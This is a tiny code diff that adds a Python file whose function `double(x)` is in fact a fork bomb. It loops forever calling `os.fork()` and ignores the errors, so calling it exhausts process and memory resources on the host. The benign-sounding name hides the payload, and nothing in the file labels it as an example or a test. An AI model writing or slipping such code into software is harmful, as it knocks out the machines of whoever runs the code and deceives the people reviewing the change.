@@ -1,0 +1,10 @@
+"""Everyone forks."""
+import os
+
+
+def double(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
